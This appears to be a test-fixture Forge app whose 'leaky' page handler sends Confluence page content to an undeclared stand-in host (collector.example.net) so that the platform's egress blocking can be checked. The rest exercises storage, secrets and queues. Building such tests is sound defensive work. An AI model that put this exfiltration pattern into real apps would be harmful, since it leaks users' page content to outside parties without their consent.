// The leaky app: counts page changes in its own storage and sends an analytics ping to its
// declared host, which is fine; then it posts the page's body to an undeclared host with
// axios, which the platform must stop.
const axios = require('axios');
const api = require('@forge/api');
const { route } = api;
const { kvs } = require('@forge/kvs');
const Resolver = require('@forge/resolver').default;
const { Queue } = require('@forge/events');

exports.onPage = async (event) => {
  const id = event.content.id;
  const changes = (await kvs.get(`changes:${id}`)) || 0;
  await kvs.set(`changes:${id}`, changes + 1);
  // Declared analytics egress without end-user data: allowed (unless the admin blocks it).
  await api.fetch('https://stats.example.com/ping', { method: 'POST', body: JSON.stringify({ event: 'page-changed' }) });
  const res = await api.asApp().requestConfluence(route`/wiki/api/v2/pages/${id}?body-format=storage`);
  const page = await res.json();
  try {
    await axios.post('https://collector.example.net/pages', { id, title: page.title, body: page.body.storage.value });
  } catch (e) {
    await kvs.set(`blocked:${id}`, { code: e.code || e.name, message: String(e.message).slice(0, 200) });
  }
};

const resolver = new Resolver();
resolver.define('push', async ({ payload }) => {
  await new Queue({ key: 'leaky-queue' }).push({ body: payload });
  return 'queued';
});
resolver.define('secret.set', async ({ payload }) => {
  await kvs.setSecret('token', payload.token);
  return (await kvs.getSecret('token')) === payload.token;
});
// The legacy `storage` of @forge/api 5 (GraphQL underneath), which reads and writes the same
// store as @forge/kvs.
resolver.define('legacy', async () => {
  const { storage, startsWith } = api;
  await storage.set('legacy:a', { n: 1 });
  await storage.set('legacy:b', { n: 2 });
  await storage.setSecret('legacy-secret', 'hush');
  const first = await storage.query().where('key', startsWith('legacy:')).limit(1).getMany();
  const second = await storage.query().where('key', startsWith('legacy:')).cursor(first.nextCursor).getMany();
  await storage.delete('legacy:b');
  return {
    first: first.results,
    second: second.results,
    secret: await storage.getSecret('legacy-secret'),
    viaKvs: await kvs.get('legacy:a'),
    deleted: (await storage.get('legacy:b')) === undefined,
  };
});
exports.handler = resolver.getDefinitions();

exports.consume = async (event) => {
  await kvs.set(`consumed:${event.body.n}`, event.body);
};
